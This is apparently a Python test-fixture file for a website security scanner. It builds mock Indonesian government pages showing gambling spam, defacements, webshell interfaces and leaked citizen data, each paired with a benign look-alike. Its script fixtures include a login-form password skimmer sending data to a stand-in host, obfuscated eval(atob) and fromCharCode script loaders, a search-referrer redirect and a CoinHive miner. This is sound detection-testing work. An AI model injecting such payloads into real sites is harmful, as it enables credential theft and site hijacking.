"""Compromise and personal data: what hacked and careless sites show, as incident reports of hacked sites describe it,
and twins that look like it for good reasons."""

from tests.accuracy.case import Case, fail, partial
from tests.accuracy.serve import App, Reply, Visit, page, pages

_NEWS = "".join(
    f"<article class='kartu'><h2 class='judul'><a href='/berita/{n}'>Kegiatan dinas ke-{n} berjalan lancar</a></h2>"
    f"<p class='ringkas'>Kepala dinas membuka kegiatan pelatihan warga di kecamatan {n}.</p></article>"
    for n in range(6)
)
_MENU = (
    "<nav class='menu'>"
    + "".join(
        f"<a href='/{name}'>{name.title()}</a>"
        for name in ("profil", "layanan", "berita", "ppid", "galeri", "kontak", "unduhan")
    )
    + "</nav>"
)
OFFICE = page("Dinas Perhubungan", f"{_MENU}<section class='berita'>{_NEWS}</section>")


def _one(html: str | Reply) -> App:
    return pages({"/": html})


def _linked(path: str, reply: Reply | str, text: str = "Lampiran") -> App:
    return pages({"/": page("Dinas Perhubungan", f"<a href='{path}'>{text}</a>{_MENU}{_NEWS}"), path: reply})


def _crawled(html: str) -> App:
    return lambda visit: Reply(html) if "Googlebot" in visit.agent and visit.file == "/" else _one(OFFICE)(visit)


# ---- gambling and other spam ----
_WORDS = "slot gacor maxwin rtp live pragmatic play togel online scatter hitam deposit pulsa slot dana bonus new member"
_HOSTS = ("slotgacor-rtp", "maxwin88-slot", "togel4d-resmi")
_ANCHORS = ("slot gacor", "maxwin", "togel online")
_LINKS = "".join(f"<a href='https://{host}.example/'>{text}</a>" for host, text in zip(_HOSTS, _ANCHORS, strict=True))
_LANDING_OWN = page(
    "Slot Gacor Maxwin > Situs Slot Online Terpercaya RTP Live Hari Ini",
    "<p>Slot gacor hari ini dengan rtp live tertinggi. Pragmatic play, mahjong ways, scatter hitam, gates of olympus. "
    "Deposit pulsa tanpa potongan, bonus new member 100.</p><a href='/go/main'>DAFTAR</a><a href='/go/main'>LOGIN</a>",
    "<meta name='description' content='Situs slot gacor maxwin, rtp live, deposit pulsa, slot dana.'>",
)
_JAPANESE = (
    "<!doctype html><html lang='ja'><head><meta charset='utf-8'><title>【激安】ブランド財布 公式通販 送料無料 正規品 最安値</title></head><body>"
    "<h1>スーパーコピー 時計 通販</h1><p>激安 ブランド 送料無料 正規品 最安値 楽天 通販 公式 ショップ。今だけ 80%OFF ¥3,980 円。</p>"
    "<a href='https://shop-jp.example/buy'>カートに入れる</a></body></html>"
)
_PHARMA = "".join(
    f"<a href='https://{host}.example/'>{text}</a>"
    for host, text in (
        ("rx-online", "buy viagra online"),
        ("cheap-med", "cheap cialis without prescription"),
        ("pill-shop", "generic levitra"),
    )
)
_SITEMAP = (
    "<?xml version='1.0' encoding='UTF-8'?><urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'>"
    + "".join(
        f"<url><loc>https://sisip-peta-situs.kabcontoh.go.id/{name}/</loc></url>"
        for name in (
            "profil",
            "slot-gacor-hari-ini",
            "situs-slot-maxwin",
            "rtp-live-pragmatic",
            "togel-online-4d",
            "slot-deposit-pulsa",
        )
    )
    + "</urlset>"
)
_FOLDER_LISTING = (
    "<html><head><title>Index of /uploads</title></head><body><h1>Index of /uploads</h1><table><tr><th><a href='?C=N;O=D'>Name</a></th></tr>"
    "<tr><td><a href='/'>Parent Directory</a></td></tr>{}</table></body></html>"
)


def _rows(*names: str) -> str:
    return "".join(f"<tr><td><a href='{name}'>{name}</a></td></tr>" for name in names)


_SPAM_FOLDERS = _FOLDER_LISTING.format(_rows("slot-gacor/", "situs-togel-online/", "rtp-slot-live/", "laporan.pdf"))

GAMBLING = (
    Case("sisip-teks-luar-layar", _one(OFFICE.replace("<footer>", f"<div style='position:absolute;left:-9999px'>{_WORDS}</div><footer>")), {"gambling-content": fail()}),
    Case("sisip-teks-nol", _one(OFFICE.replace("<footer>", f"<span style='font-size:0px'>{_WORDS}</span><footer>")), {"gambling-content": fail()}),
    Case("sisip-aturan-anak", _one(page("Dinas", f"<div class='ft'><ul><li>{_LINKS}</li></ul></div>{_MENU}", "<style>.ft > ul li{position:absolute;top:-5000px}</style>")), {"gambling-content": fail()}),
    Case("sisip-aturan-blok", _one(page("Dinas", f"<footer><section>{_LINKS}</section></footer>{_MENU}", "<style>footer section{height:0;overflow:hidden}</style>")), {"gambling-content": fail()}),
    Case("sisip-halaman-judi", _linked("/promo/", _LANDING_OWN, "Promo"), {"gambling-content": fail()}),
    Case("sisip-subdomain-mati", _one(_LANDING_OWN), {"gambling-content": fail()}),
    Case("sisip-jepang-perayap", _crawled(_JAPANESE), {"gambling-content": fail()}),
    Case("sisip-jepang-halaman", _linked("/shop/", _JAPANESE, "Arsip"), {"gambling-content": fail()}),
    Case("sisip-obat", _one(OFFICE.replace("<footer>", f"<div style='display:none'>{_PHARMA}</div><footer>")), {"gambling-content": fail()}),
    Case("sisip-amp", _one(page("Dinas", _MENU, "<link rel='amphtml' href='https://slot-gacor-amp.example/'>")), {"gambling-content": fail()}),
    Case("sisip-peta-situs", pages({"/": OFFICE, "/robots.txt": Reply("User-agent: *\nDisallow:\nSitemap: /sitemap.xml\n", kind="text/plain"), "/sitemap.xml": Reply(_SITEMAP, kind="application/xml")}), {"gambling-content": fail()}),
    Case("sisip-folder-unggahan", pages({"/": OFFICE, "/uploads/": _SPAM_FOLDERS}), {"gambling-content": fail(), "directory-listing": fail("/uploads/")}),
)  # fmt: skip

_HEALTH = page(
    "Waspada Obat Palsu",
    "<p>BPOM mengimbau warga tidak membeli viagra, cialis, dan sildenafil palsu yang dijual daring tanpa resep dokter. Laporkan penjualan obat keras ke BPOM.</p>"
    "<a href='https://cekbpom.pom.go.id/'>Cek BPOM</a>" + _MENU,
)
_TOURISM = (
    "<!doctype html><html lang='ja'><head><meta charset='utf-8'><title>観光案内 | Dinas Pariwisata</title></head><body><h1>ようこそ</h1>"
    "<p>美しい海岸、伝統的な市場、火山の温泉をお楽しみください。アクセスと宿泊の案内。</p><a href='/id'>Bahasa Indonesia</a></body></html>"
)
_ACCORDION = OFFICE.replace(
    "<footer>",
    "<div class='panel' style='display:none'><h3>Apa itu judi online?</h3><p>Istilah yang sering dipakai: slot gacor, maxwin, rtp live, scatter hitam, "
    "togel online, deposit pulsa. Jangan tergoda; laporkan ke aduankonten.id.</p></div><footer>",
)
_MENU_NESTED = page(
    "Dinas",
    "<nav><ul class='menu'><li>Layanan<ul>"
    + "".join(f"<li><a href='https://mitra{n}.example/daftar'>Daftar layanan {n}</a></li>" for n in range(9))
    + "</ul></li></ul></nav>"
    + _NEWS,
    "<style>.menu li ul{display:none}.menu li ul li a{text-indent:0}</style>",
)
_CLEAN_SITEMAP = (
    "<?xml version='1.0'?><urlset>"
    + "".join(
        f"<url><loc>https://x.go.id/berita/{name}</loc></url>"
        for name in (
            "polisi-tangkap-bandar-slot-gacor",
            "bahaya-judi-slot-online",
            "kominfo-blokir-situs-togel",
            "stop-judi-bola",
            "razia-togel-online",
        )
    )
    + "</urlset>"
)

GAMBLING_CLEAN = (
    Case("bukan-obat", _one(_HEALTH)),
    Case("bukan-wisata-jepang", _linked("/ja", _TOURISM, "日本語")),
    Case("bukan-akordeon", _one(_ACCORDION)),
    Case("bukan-menu-bersarang", _one(_MENU_NESTED)),
    Case("bukan-peta-berita", pages({"/": OFFICE, "/sitemap.xml": Reply(_CLEAN_SITEMAP, kind="application/xml")})),
    Case("bukan-komentar", _one(OFFICE.replace("<footer>", "<section class='komentar'><p>budi: situs kok dulu isinya slot gacor dan maxwin, syukur sudah bersih</p><p>ani: iya, togel online juga</p></section><footer>"))),
)  # fmt: skip

# ---- defacement and shells ----
_DEFACED = (
    "<html><head><title>Hacked By ./Mr.Kr4ken - Garuda Security Team</title><style>body{background:#000;color:#0f0;text-align:center}</style></head><body>"
    "<h1>HACKED BY ./Mr.Kr4ken</h1><img src='https://i.example/skull.png'><p>Hello Admin, your security is low! Patch your system.</p>"
    "<marquee>Greetz: GarudaSec - AnonGhost - All Indonesian Defacer</marquee><audio src='https://i.example/lagu.mp3' autoplay></audio></body></html>"
)
_DEFACED_ID = "<html><head><title>DIRETAS OLEH BhinnekaCyber</title></head><body bgcolor=black><center><font color=red size=7>Situs ini diretas oleh BhinnekaCyber</font><p>Maaf min, keamanan situs anda lemah. Salam dari anak bangsa.</p></center></body></html>"
_POSTED = OFFICE.replace("Kegiatan dinas ke-0 berjalan lancar", "Hacked By NG689Skw")
_WSO = (
    "<html><head><title>dinas.go.id - WSO 2.8</title></head><body><form method=post name=mf style='display:none;'><input type=hidden name=a><input type=hidden name=c><input type=hidden name=p1>"
    "<input type=hidden name=p2><input type=hidden name=p3><input type=hidden name=charset></form><table class=info><tr><td>Uname: Linux web01 5.15.0-91-generic #101-Ubuntu SMP x86_64<br>User: 33 ( www-data )"
    "<br>Php: 8.1.2 Safe mode: OFF<br>Cwd: /var/www/html/uploads/</td></tr></table></body></html>"
)
_MINI = "<html><body><b>Linux srv1 4.18.0-513.el8.x86_64 #1 SMP Thu Dec 7 x86_64</b><br><form method='post' enctype='multipart/form-data'><input type='file' name='f'><input type='submit' value='Upload'></form></body></html>"
_INDOX = (
    "<html><head><title>IndoXploit</title></head><body>System: Linux host 3.10.0 x86_64<br>Safe Mode: OFF<br><a href='?dir=/var/www&do=upload'>Upload</a><a href='?dir=/var/www&do=cmd'>Command</a>"
    "<a href='?dir=/var/www&do=mass_deface'>Mass Deface</a><a href='?dir=/var/www&do=config'>Config</a><a href='?dir=/var/www&do=jumping'>Jumping</a><a href='?dir=/var/www&do=symlink'>Symlink</a></body></html>"
)
_LOCKED = "<html><head><title></title></head><body><form method=post><input type=password name=pass><input type=submit value='>>'></form></body></html>"
_UPLOAD_LIST = _FOLDER_LISTING.format(_rows("laporan.pdf", "alfa.php", "foto.jpg"))

DEFACED = (
    Case("wajah-diganti", _one(_DEFACED), {"defacement": fail("/")}),
    Case("wajah-diretas", _one(_DEFACED_ID), {"defacement": fail("/")}),
    Case("wajah-berkas", _linked("/lampiran.html", _DEFACED), {"defacement": fail("/lampiran.html")}),
    Case("wajah-berita", _one(_POSTED), {"defacement": fail("/")}),
    Case("cangkang-wso", _linked("/uploads/x.php", _WSO), {"defacement": fail("/uploads/x.php")}),
    Case("cangkang-mini", _linked("/images/up.php", _MINI), {"defacement": fail("/images/up.php")}),
    Case("cangkang-terdaftar", pages({"/": OFFICE, "/uploads/": _UPLOAD_LIST, "/uploads/alfa.php": _INDOX}), {"defacement": fail("/uploads/alfa.php"), "directory-listing": fail("/uploads/")}),
    Case("cangkang-terkunci", pages({"/": OFFICE, "/uploads/": _UPLOAD_LIST, "/uploads/alfa.php": _LOCKED}), {"defacement": fail("/uploads/alfa.php"), "directory-listing": fail("/uploads/"), "admin-pages": fail("/uploads/alfa.php"), "login-barrier": fail("/uploads/alfa.php")}),
)  # fmt: skip

_STORY = page(
    "Situs Pemkab Sebelah Diretas, Muncul Tulisan Hacked by Kr4ken",
    '<p>Situs pemerintah kabupaten diretas. Pada halaman depan muncul tulisan "Hacked by Kr4ken, your security is low, greetz to all". Polisi dan BSSN menyelidiki. Menurut pakar, celah berasal dari plugin usang.</p>',
)
_LESSON = page(
    "Modul Pelatihan: Mengenali Webshell",
    "<p>Webshell seperti WSO 2.8, b374k, c99shell, r57, ALFA TEaM Shell, IndoXploit menampilkan uname -a (Linux web01 5.15.0-91-generic #101-Ubuntu SMP x86_64), Safe mode: OFF, Cwd: /var/www, dan formulir perintah.</p>"
    "<pre>&lt;input type=hidden name=a&gt;&lt;input name=cmd&gt;</pre>" + _MENU,
)
_PHPINFO = (
    "<html><head><title>phpinfo()</title></head><body><h1>PHP Version 8.1.2</h1><table><tr><td>System</td><td>Linux web01 5.15.0-91-generic #101-Ubuntu SMP x86_64</td></tr></table>"
    "<form action='/cari'><input name='q'></form></body></html>"
)
_CATALOGUE = page(
    "Katalog Perpustakaan",
    _MENU
    + "<h2>Hacked: Kisah Seorang Peretas</h2><h2>Touched by the Sun</h2><h2>Kilroy Was Here</h2><p>Buku baru bulan ini.</p>",
)
_UPLOADER = page(
    "Unggah Berkas Permohonan",
    "<form method='post' action='/unggah' enctype='multipart/form-data'><label>Berkas <input type='file' name='berkas'></label><button>Kirim</button></form>"
    + _MENU,
)
_GALLERY = page(
    "Akses Galeri Internal",
    "<form method='post' action='/galeri/masuk'><label>Kata sandi <input type='password' name='sandi'></label><button>Buka</button></form><p>Galeri ini khusus pegawai.</p>"
    + _MENU,
)

DEFACED_CLEAN = (
    Case("bukan-wajah-berita", _one(_STORY)),
    Case("bukan-wajah-modul", _one(_LESSON)),
    Case("bukan-cangkang-phpinfo", _linked("/files/info.php", _PHPINFO), unsure=frozenset(("debug-pages",))),
    Case("bukan-wajah-katalog", _one(_CATALOGUE)),
    Case("bukan-cangkang-unggah", _one(_UPLOADER)),
    Case("bukan-cangkang-galeri", _linked("/galeri/akses.php", _GALLERY), {"admin-pages": fail("/galeri/akses.php"), "login-barrier": fail("/galeri/akses.php")}),
)  # fmt: skip


# ---- scripts ----
def _head(markup: str) -> App:
    return _one(page("Dinas Perhubungan", _MENU + _NEWS, markup))


_ATOB = "<script>eval(atob('dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgnc2NyaXB0Jyk7cy5zcmM9J2h0dHBzOi8vc3RhdC1jZG4uZXhhbXBsZS94LmpzJztkb2N1bWVudC5oZWFkLmFwcGVuZENoaWxkKHMpOw=='))</script>"
_CODES = ",".join(str(ord(char)) for char in "<script src=https://evil-cdn.example/j.js></script>")
_FROM_CODES = f"<script>document.write(String.fromCharCode({_CODES}))</script>"
_REFERRED = "<script>var r=document.referrer;if(/google|bing|yahoo/.test(r)){window.location.replace('https://track-go.example/in')}</script>"
_SKIM = "<script>document.querySelector('form').addEventListener('submit',function(){var p=document.querySelector('input[name=\"password\"]').value;new Image().src='https://kumpul.example/c?d='+btoa(p)})</script>"
_MINER = "<script src='https://cdn-x.example/coinhive.min.js'></script><script>new CoinHive.Anonymous('abc',{throttle:0.3}).start()</script>"
_GA = "<script>document.write(unescape(\"%3Cscript src='https://ssl.google-analytics.com/ga.js' type='text/javascript'%3E%3C/script%3E\"));</script>"
_PACKED = "<script>eval(function(p,a,c,k,e,d){e=function(c){return c};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('0 1(2)',3,3,'function|slider|x'.split('|')))</script>"
_MAIL_CODES = ",".join(str(ord(char)) for char in '<a href="mailto:humas@kabcontoh.go.id">humas</a>')
_MAIL = f"<script>document.write(String.fromCharCode({_MAIL_CODES}))</script>"
_PIXEL = "<script>navigator.sendBeacon('https://www.google-analytics.com/collect',encodeURIComponent(location.href));document.addEventListener('click',function(){})</script>"
_GTM = "<noscript><iframe src='https://www.googletagmanager.com/ns.html?id=GTM-X' height='0' width='0' style='display:none;visibility:hidden'></iframe></noscript>"

SCRIPTS = (
    Case("skrip-domain-mati", _head("<script src='https://cdn.widget-lama.com/w.js'></script>"), {"malicious-scripts": fail("cdn.widget-lama.com")}, dns={"cdn.widget-lama.com": "NXDOMAIN", "widget-lama.com": "NXDOMAIN"}),
    Case("skrip-bingkai-mati", _one(page("Dinas", _MENU + "<iframe src='https://peta.statistik-web.co.id/'></iframe>")), {"malicious-scripts": fail("peta.statistik-web.co.id")}, dns={"peta.statistik-web.co.id": "NXDOMAIN", "statistik-web.co.id": "NXDOMAIN"}),
    Case("skrip-nama-hilang", _head("<script src='https://js.mitra-pemda.com/a.js'></script>"), {"malicious-scripts": fail("js.mitra-pemda.com")}, dns={"js.mitra-pemda.com": "NXDOMAIN"}),
    Case("skrip-polyfill", _head("<script src='https://cdn.polyfill.io/v3/polyfill.min.js'></script>"), {"malicious-scripts": fail("cdn.polyfill.io")}),
    Case("skrip-atob", _head(_ATOB), {"malicious-scripts": fail("concealed")}),
    Case("skrip-kode-huruf", _head(_FROM_CODES), {"malicious-scripts": fail("concealed")}),
    Case("skrip-perujuk", _head(_REFERRED), {"malicious-scripts": fail("conditional")}),
    Case("skrip-pencuri", _head(_SKIM), {"malicious-scripts": fail("skimmer")}),
    Case("skrip-penambang", _head(_MINER), {"malicious-scripts": fail("miner")}),
    Case("skrip-bingkai-nol", _one(OFFICE.replace("<footer>", "<iframe src='https://iklan-x.example/f' width='0' height='0' frameborder='0'></iframe><footer>")), {"malicious-scripts": fail("hidden_frame")}),
    Case("skrip-sebelum", _one("<script src='https://inj-js.example/a.js'></script>\n" + OFFICE), {"malicious-scripts": fail("misplaced")}),
    Case("skrip-dns-gagal", _head("<script src='https://cdn.lambat.com/w.js'></script>"), unsure=frozenset(("malicious-scripts",)), dns={"cdn.lambat.com": "SERVFAIL"}),
    Case("skrip-analitik", _head(_GA + _GTM)),
    Case("skrip-terkemas", _head(_PACKED)),
    Case("skrip-surel", _head(_MAIL)),
    Case("skrip-piksel", _head(_PIXEL)),
    Case("skrip-mitra", _head("<script src='https://cdn.mitra.example/a.js'></script><script src='https://cdn.jsdelivr.net/npm/x@1/x.js' integrity='sha384-" + "A" * 64 + "'></script>")),
)  # fmt: skip


# ---- changes of the home page ----
def _portal(start: int, extra: str = "", title: str = "Portal Kabupaten Contoh", lang: str = "id") -> str:
    items = "".join(
        f"<li class='item slide-{n}'><a href='/berita/{n}'>Warta {n}: {('panen raya', 'posyandu', 'jalan baru', 'pasar murah', 'sekolah')[n % 5]} di desa {n}</a><time class='tgl'>{n % 28 + 1} November 2026</time></li>"
        for n in range(start, start + 12)
    )
    return page(
        title,
        f"{_MENU}<div class='carousel'><ul class='daftar'>{items}</ul></div><aside class='hit'>Pengunjung: {start * 371}</aside>{extra}",
    ).replace('lang="id"', f'lang="{lang}"')


_REDESIGN = (
    "<!doctype html><html lang='id'><head><title>Kabupaten Contoh | Satu Data Satu Layanan</title></head><body class='v2'><div id='app' class='grid'><section class='hero'><h1>Satu Layanan</h1></section>"
    "<section class='tiles'><div class='tile'>Perizinan</div><div class='tile'>Kependudukan</div></section><section class='stats'><span class='num'>120</span></section><div class='foot'>Kominfo</div></div></body></html>"
)
CHANGES = (
    Case("ubah-wajah", _one(_DEFACED), {"home-change": partial(), "defacement": fail("/")}, before=_one(_portal(1))),
    Case("ubah-rancangan", _one(_REDESIGN), {"home-change": partial()}, before=_one(_portal(1))),
    Case("ubah-judul", _one(_portal(1, title="Slot Gacor Maxwin Hari Ini")), {"home-change": partial()}, before=_one(_portal(1)), unsure=frozenset(("gambling-content",))),
    Case("ubah-skrip", _one(_portal(2, "<script src='https://stat-widget.example/a.js'></script>")), {"home-change": partial()}, before=_one(_portal(1))),
    Case("ubah-formulir", _one(_portal(2, "<form method='post' action='https://kumpul-data.example/x'><input name='nama'></form>")), {"home-change": partial()}, before=_one(_portal(1))),
    Case("tetap-berita", _one(_portal(400)), before=_one(_portal(1))),
    Case("tetap-pengumuman", _one(_portal(9, "<div class='popup'><img src='/p.png' alt=''><p>Selamat Hari Kesehatan Nasional</p></div>")), before=_one(_portal(1))),
    Case("tetap-judul-berita", _one(_portal(30, title="Warta 30: panen raya di desa 30")), before=_one(_portal(1, title="Warta 1: posyandu di desa 1"))),
    Case("tetap-analitik", _one(_portal(3, "<script src='https://www.googletagmanager.com/gtag/js?id=G-1'></script>")), before=_one(_portal(1))),
    Case("tetap-urutan-judul", _one(_portal(3, title="Kabupaten Contoh - Portal Resmi (12 kunjungan)")), before=_one(_portal(1))),
)  # fmt: skip


# ---- personal data ----
def _nik(n: int, woman: bool = False) -> str:
    return f"3204{n % 30 + 1:02d}{n % 27 + 1 + (40 if woman else 0):02d}{n % 12 + 1:02d}{(60 + n) % 100:02d}{n % 7 + 1:04d}"


_PEOPLE = (
    "Asep Sunandar",
    "Siti Aminah",
    "Budi Hartono",
    "Neneng Rohaeti",
    "Ujang Suryana",
    "Dewi Lestari",
    "Agus Salim",
    "Rina Marlina",
    "Dadang Hidayat",
    "Euis Komariah",
    "Cecep Rahmat",
    "Wati Kurnia",
)


def _table(heads: tuple[str, ...], rows: list[tuple[str, ...]]) -> str:
    head = "".join(f"<th>{one}</th>" for one in heads)
    body = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows)
    return f"<table class='tabel'><thead><tr>{head}</tr></thead><tbody>{body}</tbody></table>"


_AID = _table(
    ("No", "Nama", "NIK", "Alamat"),
    [(str(n), who, _nik(n, n % 2 == 0), f"RT 0{n % 5 + 1} RW 02") for n, who in enumerate(_PEOPLE, 1)],
)
_JSON = (
    "["
    + ",".join(
        f'{{"nama":"{who}","nik":"{_nik(n)}","no_kk":"320412010119000{n % 10}"}}' for n, who in enumerate(_PEOPLE, 1)
    )
    + "]"
)
_ACCOUNTS = _table(
    ("Nama Penerima", "Bank", "No. Rekening"), [(who, "BRI", f"41200100{n:04d}507") for n, who in enumerate(_PEOPLE, 1)]
)
_PHONES = _table(
    ("Nama Siswa", "Alamat", "No HP Orang Tua"),
    [(who, f"Jl. Melati {n}", f"0812{n:04d}{n * 37 % 10000:04d}") for n, who in enumerate(_PEOPLE, 1)],
)
_NPWPS = _table(("Nama", "NPWP"), [(who, f"0{n % 9 + 1}.254.{n:03d}.3-407.000") for n, who in enumerate(_PEOPLE, 1)])

PERSONAL = (
    Case("pribadi-bantuan", _one(page("Penerima Bantuan Sosial", _AID)), {"personal-data": fail("/")}),
    Case("pribadi-tertaut", _linked("/data-penerima", page("Data Penerima", _AID), "Data penerima"), {"personal-data": fail("/data-penerima")}),
    Case("pribadi-json", _one(page("Peta Warga", f"<script>var data = {_JSON};</script>")), {"personal-data": fail("/")}),
    Case("pribadi-rekening", _one(page("Transfer Insentif", _ACCOUNTS)), {"personal-data": fail("/")}),
    Case("pribadi-siswa", _one(page("Daftar Siswa Diterima", _PHONES)), {"personal-data": fail("/")}),
    Case("pribadi-npwp", _one(page("Honor Narasumber", _NPWPS)), {"personal-data": fail("/")}),
)  # fmt: skip

_MASKED = _AID.replace("3204", "3204********").replace("<td>3204********", "<td>3204********")
_NIP = _table(
    ("Nama", "NIP", "Jabatan", "No HP"),
    [
        (
            who,
            f"19{70 + n}0{n % 9 + 1}1{n % 9} 200{n % 9}01 {n % 2 + 1} 00{n % 9 + 1}",
            "Kepala Seksi",
            f"0813{n:04d}{n * 53 % 10000:04d}",
        )
        for n, who in enumerate(_PEOPLE, 1)
    ],
)
_NUPTK = _table(
    ("Nama Guru", "NUPTK"),
    [
        (
            who,
            f"{(n * 1237 + 4000) % 9000 + 1000}7{n % 10}{(n * 31) % 90 + 10}30{(n * 7) % 90 + 10}0{n % 9 + 1}{n * 11 % 90 + 10}",
        )
        for n, who in enumerate(_PEOPLE, 1)
    ],
)
_INVOICES = _table(
    ("No", "Nomor Invoice", "Nilai"),
    [(str(n), f"20261101{n * 7919 % 100000000:08d}", f"Rp{n * 125}.000.000,00") for n in range(1, 15)],
)
_VENDORS = _table(("Nama Penyedia", "NPWP"), [(f"CV Maju Jaya {n}", f"02.131.{n:03d}.1-421.000") for n in range(1, 12)])
_BUDGET = _table(
    ("Kode Rekening", "Uraian", "Jumlah"),
    [(f"5.1.02.01.01.{n:04d}", "Belanja alat tulis kantor", f"{n * 1250000}") for n in range(1, 12)],
)
_OFFICES = _table(
    ("Puskesmas", "Alamat", "Call Center"),
    [(f"Puskesmas {n}", f"Jl. Raya {n}", f"0812{n:04d}{n * 91 % 10000:04d}") for n in range(1, 16)],
)
_BLANK = "<form method='post' action='/daftar'><label>NIK: <input name='nik' maxlength='16' placeholder='3204xxxxxxxxxxxx'></label><label>No KK: <input name='kk'></label></form><p>Contoh NIK: 3204110101900001. NIK: ____________</p>"
_HASHES = (
    "<ul>"
    + "".join(
        f"<li>{(n * 6364136223846793005 + 1442695040888963407) % 10**16:016d} arsip surat {n}</li>"
        for n in range(1, 25)
    )
    + "</ul><p>Nomor registrasi penduduk miskin ekstrem dirahasiakan.</p>"
)

PERSONAL_CLEAN = (
    Case("bukan-pribadi-samar", _one(page("Penerima Bantuan", _MASKED))),
    Case("bukan-pribadi-pejabat", _one(page("Daftar Pejabat", _NIP))),
    Case("bukan-pribadi-guru", _one(page("Daftar Guru", _NUPTK))),
    Case("bukan-pribadi-faktur", _one(page("Daftar Pembayaran", _INVOICES))),
    Case("bukan-pribadi-penyedia", _one(page("Daftar Penyedia", _VENDORS))),
    Case("bukan-pribadi-anggaran", _one(page("Rincian Anggaran", _BUDGET))),
    Case("bukan-pribadi-layanan", _one(page("Kontak Puskesmas", _OFFICES))),
    Case("bukan-pribadi-formulir", _one(page("Pendaftaran", _BLANK))),
    Case("bukan-pribadi-sidik", _one(page("Arsip Surat", _HASHES))),
    Case("bukan-pribadi-kontak", _one(page("Kontak", "<p>Telepon (022) 1234567, WhatsApp 0812-2233-4455, nama petugas: Ibu Ani.</p><p>Koordinat -6.9174639123456789, 107.6191228123456</p>"))),
)  # fmt: skip


def _everything(visit: Visit) -> Reply:
    """A catch-all that repeats every word that a scanner could look for."""
    words = "Hacked by, WSO 2.8, b374k, uid=33(www-data), Safe mode: OFF, slot gacor maxwin togel online, NIK 3204110101900001, CoinHive, eval(atob(, polisi, panduan"
    return Reply(page("Layanan", f"{_MENU}<p>{words}</p><p>{visit.file}</p>{_NEWS}"))


CASES = (
    *GAMBLING, *GAMBLING_CLEAN, *DEFACED, *DEFACED_CLEAN, *SCRIPTS, *CHANGES, *PERSONAL, *PERSONAL_CLEAN,
    Case("semua-kata-di-mana-mana", _everything),
)  # fmt: skip
